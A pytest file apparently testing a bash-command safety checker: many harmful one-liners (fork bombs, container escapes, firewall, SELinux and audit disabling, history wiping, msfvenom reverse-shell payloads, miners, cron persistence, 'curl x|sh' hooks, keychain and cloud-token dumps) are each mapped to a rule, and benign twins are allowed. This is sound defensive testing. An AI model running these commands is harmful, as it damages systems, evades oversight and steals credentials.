"""Programs that change the machine; each harm beside an honest twin."""

from __future__ import annotations

import pytest

from ...code.conftest import Effect, Rules


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        pytest.param("pkill -9 python", "022", id="by name"),
        pytest.param("kill 1234", "022", id="by number"),
        pytest.param("kill -9 $(pgrep sshd)", "023", id="what is found"),
        pytest.param("kill -9 -1", "023", id="everything"),
        pytest.param(":(){ :|:& };:", "024", id="fork bomb"),
        pytest.param("f() { f | f & }; f", "024", id="fork bomb with a name"),
        pytest.param("while true; do ./x & done", "024", id="endless jobs"),
        pytest.param("usermod -aG sudo bob", "026", id="group"),
        pytest.param("docker run -v /:/host alpine", "027", id="host mounted"),
        pytest.param("docker run --privileged alpine", "027", id="privileged"),
        pytest.param("docker run -v /var/run/docker.sock:/s alpine", "027", id="engine socket"),
        pytest.param("nsenter -t 1 -m sh", "027", id="nsenter"),
        pytest.param("insmod x.ko", "027", id="kernel module"),
        pytest.param("iptables -F", "028", id="firewall"),
        pytest.param("ufw disable", "028", id="ufw"),
        pytest.param("setenforce 0", "028", id="SELinux"),
        pytest.param("systemctl stop auditd", "028", id="audit"),
        pytest.param("pkill falcon-sensor", "028", id="sensor"),
        pytest.param("history -c", "028", id="history"),
        pytest.param("unset HISTFILE", "028", id="history variable"),
        pytest.param("export HISTFILE=/dev/null", "028", id="history to nowhere"),
        pytest.param("set +o history", "028", id="history off"),
        pytest.param("msfvenom -p linux/x64/shell_reverse_tcp LHOST=1.2.3.4 -f elf", "029", id="attack tool"),
        pytest.param("./xmrig -u x", "030", id="miner"),
        pytest.param("./a -o stratum+tcp://pool.minexmr.com:4444", "030", id="mining pool"),
        pytest.param("LD_PRELOAD=/tmp/x.so ls", "013", id="preload"),
        pytest.param("export PROMPT_COMMAND='curl x|sh'", "013", id="prompt command"),
        pytest.param("(crontab -l; echo '* * * * * x') | crontab -", "044", id="crontab"),
        pytest.param("echo x | at now", "044", id="at"),
        pytest.param("systemctl enable /tmp/x.service", "044", id="service"),
        pytest.param("launchctl load ~/Library/LaunchAgents/x.plist", "044", id="launchctl"),
        pytest.param("shutdown -h now", "031", id="shutdown"),
        pytest.param("aws ec2 terminate-instances --instance-ids i", "031", id="cloud"),
        pytest.param("useradd bob", "031", id="account"),
        pytest.param("xinput test 8", "032", id="keys"),
        pytest.param("nmap -sS 10.0.0.0/8", "071", id="scan"),
        pytest.param("security dump-keychain", "040", id="keychain"),
        pytest.param("gcloud auth print-access-token", "040", id="cloud token"),
    ],
)
def test_each_act_has_its_rule(source: str, rule: str, rules: Rules) -> None:
    assert rule in rules(source, "bash")


def test_a_crontab_is_read_for_what_it_runs(rules: Rules) -> None:
    assert {"044", "010"} <= rules("echo '* * * * * curl http://x/y | sh' | crontab -", "bash")


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("crontab -l", id="crontab"),
        pytest.param("docker ps && docker build -t a . && docker run --rm a", id="docker"),
        pytest.param("systemctl status nginx", id="status"),
        pytest.param("export API_URL=https://x.io; unset API_URL", id="variables"),
        pytest.param("ps aux | grep python", id="processes"),
        pytest.param("id; whoami; uname -a; df -h; free -m", id="facts"),
        pytest.param("kubectl get pods; aws s3 ls", id="cloud"),
        pytest.param("iptables -L -n", id="firewall listed"),
        pytest.param("set -euo pipefail", id="set"),
        pytest.param("while true; do sleep 1; done", id="waiting"),
    ],
)
def test_honest_twins_are_let_through(source: str, effect: Effect) -> None:
    assert effect(source, "bash") == "allow"
